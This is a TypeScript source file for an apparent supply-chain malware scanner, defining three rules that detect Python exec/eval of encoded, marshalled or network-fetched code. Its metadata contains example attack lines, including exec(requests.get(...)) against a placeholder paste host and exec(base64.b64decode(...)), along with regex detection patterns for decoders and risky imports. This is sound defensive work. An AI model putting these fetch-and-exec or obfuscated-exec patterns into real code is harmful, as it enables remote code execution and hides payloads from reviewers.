import { endpointFinding, matchEndpoints } from '../../text/iocs.js';
import type { PyContext, PyRule } from '../engine.js';
import { marshalStrings } from '../marshal.js';
import type { Node } from '../parser.js';
import { isBytes, textOf } from '../values.js';
import { CODE_EXEC, preview, py } from './helpers.js';

const DECODE_HINT =
  /\.decrypt\(|Fernet|AES\.new|b64decode|b32decode|b16decode|b85decode|a85decode|decodebytes|decodestring|decompress|unhexlify|fromhex|marshal|rot_?13|a2b_|codecs\.decode|pickle\.loads|\[::-1\]/;

/** The code argument of exec/eval/compile (or a py2 `exec` statement). */
function codeArg(ctx: PyContext, node: Node): { name: string; arg?: Node } | undefined {
  if (node.type === 'exec_statement')
    return { name: 'exec', arg: node.childForFieldName('code') ?? node.namedChildren[0] ?? undefined };
  const name = ctx.callee(node);
  const { positional, keywords } = ctx.args(node);
  // `Thread(target=exec, args=(code, g))`: the thread calls exec(code, g).
  const target = keywords.get('target');
  const run = target ? ctx.qualify(target) : undefined;
  if (run && CODE_EXEC.has(run)) {
    const args = keywords.get('args');
    const first = args?.type === 'tuple' || args?.type === 'list' ? args.namedChildren[0] : undefined;
    return { name: run, arg: first ?? undefined };
  }
  if (!name || !CODE_EXEC.has(name)) return undefined;
  return { name, arg: positional[0] ?? keywords.get('source') ?? keywords.get('object') };
}

function decodedText(v: unknown): string | undefined {
  const t = textOf(v);
  if (t === undefined) return undefined;
  if (isBytes(v) && /[\x00-\x08\x0e-\x1f]/.test(t.slice(0, 200))) return undefined;
  return t;
}

/** Whether an argument passes through a decoder (folded taint or a decode call in its text). */
function isDecoded(ctx: PyContext, arg: Node): boolean {
  return ctx.taint(arg).has('decoded') || DECODE_HINT.test(arg.text.slice(0, 20_000));
}

/** `exec(open('pkg/_version.py').read())`: setup.py reading its own version file. */
function readsPackageFile(ctx: PyContext, arg: Node): boolean {
  return (
    /^(?:open|io\.open|codecs\.open)\(/.test(arg.text) &&
    !DECODE_HINT.test(arg.text) &&
    !ctx.taint(arg).has('remote')
  );
}

/** Strings of `marshal.loads(<constant bytes>)` (through decoders), if the argument is one. */
function marshalledStrings(ctx: PyContext, arg: Node): string[] | undefined {
  let call: Node | undefined = arg;
  for (let i = 0; i < 3 && call?.type === 'identifier'; i++) {
    const b = ctx.evaluator.binding(call);
    call = b?.kind === 'assign' ? b.value : undefined;
  }
  if (call?.type !== 'call' || ctx.callee(call) !== 'marshal.loads') return undefined;
  const data = ctx.evaluate(ctx.args(call).positional[0]);
  return isBytes(data) ? marshalStrings(data.data) : undefined;
}

export const execEncodedPayload: PyRule = {
  meta: {
    ...py,
    id: 'PY-001',
    name: 'exec-encoded-payload',
    category: 'obfuscation',
    severity: 'critical',
    confidence: 'high',
    description:
      'exec/eval/compile runs code that is first decoded (base64, zlib, bz2, lzma/xz, hex, rot13, reversed strings, XOR loops, substitution ciphers...) or unmarshalled (marshal.loads: the code object is read as data and its strings reported).',
    rationale:
      'Encoding the code that is executed has one purpose: hiding it from review and scanners. It is the signature of PyPI droppers and stealers (base64+zlib+marshal chains, lambda-obfuscated loaders, PyArmor-like blobs).',
    falsePositives: 'Very rare: some code generators and packers embed compressed bytecode of their own.',
    example: "exec(base64.b64decode('aW1wb3J0IG9z...'))",
    references: ['https://attack.mitre.org/techniques/T1027/', 'https://blog.phylum.io/tag/pypi/'],
  },
  create(ctx) {
    const check = (node: Node) => {
      const found = codeArg(ctx, node);
      if (!found?.arg || !isDecoded(ctx, found.arg)) return;
      if (ctx.taint(found.arg).has('remote')) return; // PY-003 reports network code
      const value = ctx.evaluate(found.arg);
      const text = decodedText(value);
      const marshalled = text === undefined ? marshalledStrings(ctx, found.arg) : undefined;
      if (marshalled) {
        // exec(marshal.loads(b'...')): a compiled code object. It is never run here; its string
        // constants and names are what it carries (URLs, commands, modules it calls).
        const shown = marshalled.filter((s) => s.length > 1 && !/^<.*>$/.test(s));
        ctx.report({
          node,
          message: `${found.name}() runs a marshalled (pre-compiled) code object; its strings: ${preview(shown.join(' '), 160)}`,
          evidence: { callee: found.name, marshal: true, strings: shown.slice(0, 60) },
        });
        const joined = shown.join('\n');
        for (const m of matchEndpoints(joined))
          ctx.reportFinding(endpointFinding(m, { file: ctx.path, context: ctx.fileContext }), node);
        return;
      }
      ctx.report({
        node,
        message: `${found.name}() runs decoded code${text ? `: ${preview(text, 120)}` : ' (the payload could not be decoded statically)'}.`,
        evidence: { callee: found.name, decoded: text?.slice(0, 400), decodedLength: text?.length },
      });
      if (text && ctx.reanalyze) ctx.pending.push(ctx.reanalyze(text, node));
    };
    return { call: check, exec_statement: check };
  },
};

export const dynamicCode: PyRule = {
  meta: {
    ...py,
    id: 'PY-002',
    name: 'python-dynamic-code-execution',
    category: 'execution',
    severity: 'medium',
    confidence: 'low',
    description: 'exec/eval/compile runs a string computed at run time (not an obviously decoded payload).',
    rationale:
      'Running strings as code hides what a package does from readers; malware builds its payload from pieces to dodge pattern scanners. Constant strings are decoded and analysed as code.',
    falsePositives: 'Templating engines, REPLs, configuration loaders, setup.py reading a version file.',
    example: "exec(''.join(parts))",
    references: ['https://docs.python.org/3/library/functions.html#exec'],
  },
  create(ctx) {
    const check = (node: Node) => {
      const found = codeArg(ctx, node);
      if (!found?.arg) return;
      if (isDecoded(ctx, found.arg) || ctx.taint(found.arg).has('remote')) return;
      const value = ctx.evaluate(found.arg);
      if (typeof value === 'string') {
        // Code in a constant string: analyse it as code; a trivial expression is not news.
        if (ctx.reanalyze && value.length > 8) ctx.pending.push(ctx.reanalyze(value, node));
        if (value.length > 40 && /import|open\(|system|socket|urlopen|requests/.test(value)) {
          ctx.report({
            node,
            severity: 'low',
            message: `${found.name}() runs code held in a string: ${preview(value, 100)}`,
            evidence: { callee: found.name, code: value.slice(0, 400) },
          });
        }
        return;
      }
      if (readsPackageFile(ctx, found.arg)) return;
      ctx.report({
        node,
        weak: true,
        severity: found.name === 'eval' ? 'low' : 'medium',
        message: `${found.name}() runs a string computed at run time.`,
        evidence: { callee: found.name },
      });
    };
    return { call: check, exec_statement: check };
  },
};

export const remoteCode: PyRule = {
  meta: {
    ...py,
    id: 'PY-003',
    name: 'remote-code-execution',
    category: 'dropper',
    severity: 'critical',
    confidence: 'high',
    description: 'Code downloaded from the network is passed to exec/eval/compile.',
    rationale:
      'Fetching code and executing it lets the attacker change the payload after publication and keeps it out of the package; it is the most common PyPI dropper.',
    falsePositives: 'Bootstrap scripts (get-pip style) that are not meant to be installed as packages.',
    example: "exec(requests.get('https://paste.example.invalid/raw/x').text)",
    references: ['https://attack.mitre.org/techniques/T1105/'],
  },
  create(ctx) {
    const check = (node: Node) => {
      const found = codeArg(ctx, node);
      if (!found?.arg || !ctx.taint(found.arg).has('remote')) return;
      ctx.capability('run', node);
      ctx.report({
        node,
        message: `${found.name}() runs code downloaded from the network.`,
        evidence: { callee: found.name },
      });
    };
    return { call: check, exec_statement: check };
  },
};
